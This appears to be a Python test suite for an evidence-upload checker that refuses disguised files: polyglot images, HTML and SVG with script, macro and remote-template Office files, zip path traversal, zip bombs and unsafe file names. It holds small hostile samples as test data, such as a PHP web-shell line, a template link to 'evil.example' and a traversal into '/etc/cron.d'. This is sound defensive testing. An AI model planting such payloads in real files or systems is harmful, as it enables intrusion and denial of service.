"""Files that are not what they say, or more than they say: each refused with its sentence, and quickly."""

import io
import time
import zipfile

import pytest

from tests.evidence.files import OFFICE, TRUE, archive, gif, jpg, m4a, office, png
from tipline.evidence import sniffing
from tipline.evidence.examining import examine
from tipline.evidence.rules import Fault, FileType, clean_name, type_of
from tipline.kit.cabinet import Cabinet

EXTERNAL = (
    '<Relationships xmlns="x"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
HTML = b"<html><script>alert(1)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def bomb(**sizes: int) -> bytes:
    return office("xlsx", **{f"xl/{name}.xml": bytes(size) for name, size in sizes.items()})


def overlapping() -> bytes:
    """Two names for the same bytes."""
    made = bytearray(office("docx", **{"word/a.xml": b"x" * 50, "word/b.xml": b"x" * 50}))
    first, second = made.rfind(b"word/a.xml"), made.rfind(b"word/b.xml")
    made[second - 4 : second] = made[first - 4 : first]
    return bytes(made)


def crowded() -> bytes:
    return office("docx", **{f"word/{number}.xml": b"" for number in range(1100)})


def named(name: str) -> bytes:
    return office("docx", **{name: b"x"})


def locked() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600)


NOT_TAKEN = {
    "GIFAR": ("jpg", gif() + archive(), Fault.MISMATCH),
    "JAR behind a picture": ("jpg", jpg() + archive(), Fault.DOUBLE),
    "JAR behind a drawing": ("png", png() + archive(), Fault.DOUBLE),
    "archive behind a PDF": ("pdf", TRUE["pdf"] + archive() + b"\n%%EOF", Fault.DOUBLE),
    "archive behind a sound": ("mp3", TRUE["mp3"] + archive(), Fault.DOUBLE),
    "SVG as png": ("png", SVG, Fault.MISMATCH),
    "SVG as txt": ("txt", SVG, Fault.MARKUP),
    "HTML as txt": ("txt", HTML, Fault.MARKUP),
    "HTML behind words": ("txt", "说明\n\n".encode() + HTML, Fault.MARKUP),
    "HTML in UTF-16": ("txt", HTML.decode().encode("utf-16"), Fault.MARKUP),
    "HTML in UTF-7": ("txt", b"+ADw-script+AD4-alert(1)", Fault.MARKUP),
    "HTML behind a mark": ("txt", b"\xef\xbb\xbf" + HTML, Fault.MARKUP),
    "PHP as txt": ("txt", b"<?php system($_GET['c']); ?>", Fault.MARKUP),
    "RTF as txt": ("txt", b"{\\rtf1 words}", Fault.MARKUP),
    "program as txt": ("txt", b"MZ\x90\x00\x03\x00\x00\x00" + bytes(64), Fault.MISMATCH),
    "HTML before a PDF": ("pdf", HTML + TRUE["pdf"], Fault.MISMATCH),
    "program as pdf": ("pdf", b"\x7fELF" + bytes(64), Fault.MISMATCH),
    "docx as xlsx": ("xlsx", TRUE["docx"], Fault.MISMATCH),
    "archive as docx": ("docx", archive(), Fault.BROKEN),
    "docm renamed": ("docx", office(type="application/vnd.ms-word.document.macroEnabled.main+xml"), Fault.MACRO),
    "docx with a macro": ("docx", office(**{"word/vbaProject.bin": b"x"}), Fault.MACRO),
    "xlsx with a macro": ("xlsx", office("xlsx", **{"xl/vbaProject.bin": b"x"}), Fault.MACRO),
    "docx with a control": ("docx", office(**{"word/activeX/activeX1.xml": b"x"}), Fault.MACRO),
    "docx with a package inside": ("docx", office(**{"word/embeddings/oleObject1.bin": b"x"}), Fault.MACRO),
    "docx with a remote template": (
        "docx",
        office(**{"word/_rels/settings.xml.rels": EXTERNAL.format(kind="attachedTemplate")}),
        Fault.MACRO,
    ),
    "docx with a remote picture": (
        "docx",
        office(**{"word/_rels/document.xml.rels": EXTERNAL.format(kind="image")}),
        Fault.MACRO,
    ),
    "xlsx with an outer workbook": (
        "xlsx",
        office("xlsx", **{"xl/externalLinks/externalLink1.xml": b"x"}),
        Fault.MACRO,
    ),
    "docx with an entity": (
        "docx",
        office(**{"word/_rels/a.xml.rels": b"<!DOCTYPE x [<!ENTITY a 'b'>]><x/>"}),
        Fault.BROKEN,
    ),
    "docx that climbs": ("docx", named("../../etc/cron.d/x"), Fault.BROKEN),
    "docx with an absolute name": ("docx", named("/etc/passwd"), Fault.BROKEN),
    "docx with a Windows path": ("docx", named("word\\..\\x"), None),
    "something before a docx": ("docx", b"MZ" + TRUE["docx"], Fault.MISMATCH),
    "something behind a docx": ("docx", TRUE["docx"] + HTML, Fault.MISMATCH),
    "flat bomb": ("xlsx", bomb(**{f"part{n}": 30_000_000 for n in range(11)}), Fault.BOMB),
    "tight bomb": ("xlsx", bomb(one=20_000_000), Fault.BOMB),
    "overlapping bomb": ("docx", overlapping(), Fault.BOMB),
    "crowd of parts": ("docx", crowded(), Fault.BOMB),
    "locked document": ("docx", locked(), Fault.LOCKED),
    "old document": ("docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1200), Fault.MISMATCH),
    "cut off": ("docx", TRUE["docx"][:-30], Fault.MISMATCH),
    "QuickTime": ("mp4", b"\x00\x00\x00\x14ftypqt  " + bytes(64), Fault.MISMATCH),
    "sound as film": ("mp4", m4a(), Fault.MISMATCH),
    "AAC as mp3": ("mp3", b"\xff\xf1\x50\x80" + bytes(64), Fault.MISMATCH),
    "nothing": ("jpg", b"", Fault.EMPTY),
}


@pytest.fixture
def cabinet(tmp_path, monkeypatch):
    """A cabinet whose trays are all cleared away afterwards."""
    trays, plain = [], Cabinet.tray
    monkeypatch.setattr(Cabinet, "tray", lambda self: trays.append(plain(self)) or trays[-1])
    yield Cabinet(tmp_path / "evidence", limit=1 << 26, reserve=0)
    for tray in trays:
        tray.close()


def looked_at(cabinet, kind, content):
    tray = cabinet.tray()
    tray.write(content)
    tray.seek(0)
    return examine(tray, FileType[kind.upper()], cabinet.tray)


@pytest.mark.parametrize("name", NOT_TAKEN)
def test_what_is_not_what_it_says_is_refused(name):
    kind, content, fault = NOT_TAKEN[name]
    began = time.monotonic()
    found = sniffing.fault_of(kind, content)
    assert found == fault if fault else found
    assert time.monotonic() - began < 2


@pytest.mark.parametrize("said", TRUE)
@pytest.mark.parametrize("really", TRUE)
def test_every_kind_is_taken_under_its_own_name_only(said, really):
    fault = sniffing.fault_of(said, TRUE[really])
    assert (fault == "") == (said == really), fault


def test_what_a_true_office_document_has_is_taken():
    link = EXTERNAL.format(kind="hyperlink")
    assert sniffing.fault_of("docx", office(**{"word/_rels/document.xml.rels": link})) == ""
    assert sniffing.fault_of("xlsx", office("xlsx", **{"xl/printerSettings/printerSettings1.bin": b"x"})) == ""
    assert OFFICE


def test_the_child_gives_the_same_answer_and_no_copy_of_what_is_refused(cabinet):
    for name in ("JAR behind a picture", "flat bomb", "HTML as txt"):
        kind, content, fault = NOT_TAKEN[name]
        examined = looked_at(cabinet, kind, content)
        assert (examined.fault, examined.clean_copy) == (fault, None)


def test_a_child_that_dies_means_that_the_file_is_not_taken(cabinet, monkeypatch):
    monkeypatch.setattr("tipline.evidence.examining.START", "import os; os.abort()")
    assert looked_at(cabinet, "txt", TRUE["txt"]).fault is Fault.BROKEN


def test_a_child_that_hangs_is_ended(cabinet, monkeypatch):
    monkeypatch.setattr("tipline.evidence.examining.START", "import time; time.sleep(60)")
    monkeypatch.setattr("tipline.evidence.examining.PATIENCE", 0.5)
    assert looked_at(cabinet, "txt", TRUE["txt"]).fault is Fault.BROKEN


def test_a_child_that_talks_nonsense_is_not_believed(cabinet, monkeypatch):
    monkeypatch.setattr("tipline.evidence.examining.START", "print('fine, take it')")
    assert looked_at(cabinet, "txt", TRUE["txt"]).fault is Fault.BROKEN


def test_the_child_has_neither_our_keys_nor_our_memory(cabinet, monkeypatch):
    monkeypatch.setenv("TIPLINE_KEYS", "/etc/tipline/keys")
    seen = "import os, sys; print('empty' if not [n for n in os.environ if n.startswith('TIPLINE')] else 'broken')"
    monkeypatch.setattr("tipline.evidence.examining.START", seen)
    assert looked_at(cabinet, "txt", TRUE["txt"]).fault is Fault.EMPTY
    greedy = "from tipline.evidence import bench; bench.limit(); print(''); x = bytearray(2 << 30); print('copied')"
    start = "import sys, types; house = types.ModuleType('tipline'); house.__path__ = [sys.argv[1]]; "
    monkeypatch.setattr("tipline.evidence.examining.START", f"{start}sys.modules['tipline'] = house; {greedy}")
    examined = looked_at(cabinet, "txt", TRUE["txt"])
    assert (examined.fault, examined.clean_copy) == (None, None)


def test_a_picture_that_unfolds_enormously_is_not_unfolded(cabinet):
    from tests.evidence.files import chunk

    head = chunk(b"IHDR", (60_000).to_bytes(4) * 2 + bytes([8, 2, 0, 0, 0]))
    flood = b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", b"x") + chunk(b"IEND", b"")
    examined = looked_at(cabinet, "png", flood)
    assert examined.fault is None
    assert b"".join(examined.clean_copy.read()) == flood


NAMES = {
    "../../etc/照片.jpg": "照片.jpg",
    "..\\..\\照片.jpg": "照片.jpg",
    "C:\\Users\\张三\\照片.JPG": "照片.jpg",
    "照\x00片\r\nSet-Cookie: a=b.jpg": "照片Set-Cookie_ a=b.jpg",
    'a"b;c.jpg': "a_b;c.jpg",
    "照片\u202egpj.jpg": "照片gpj.jpg",
    "\u200b\ufeff.jpg": "附件.jpg",
    ".jpg": "附件.jpg",
    "....jpg": "附件.jpg",
    "CON.jpg": "_CON.jpg",
    "com1.txt.jpg": "_com1.txt.jpg",
    "照片. .jpg": "照片.jpg",
    "x" * 300 + ".jpg": "x" * 80 + ".jpg",
    "😀.jpeg": "😀.jpg",
    "e\u0301.jpg": "é.jpg",
    "<img src=x>.jpg": "_img src=x_.jpg",
}


@pytest.mark.parametrize("name", NAMES)
def test_a_name_is_made_harmless(name):
    assert type_of(name) is FileType.JPG
    assert clean_name(name, FileType.JPG) == NAMES[name]


@pytest.mark.parametrize(
    "name", ["a", "", "a.exe", "a.jpg.exe", "a.svg", "a.docm", "a.html", "a.jpg\u202e.exe", "a.jpg ."]
)
def test_what_is_on_no_list_is_not_taken(name):
    assert type_of(name) is None


def test_a_bomb_really_is_one():
    with zipfile.ZipFile(io.BytesIO(NOT_TAKEN["flat bomb"][1])) as made:
        assert sum(part.file_size for part in made.infolist()) > 300_000_000
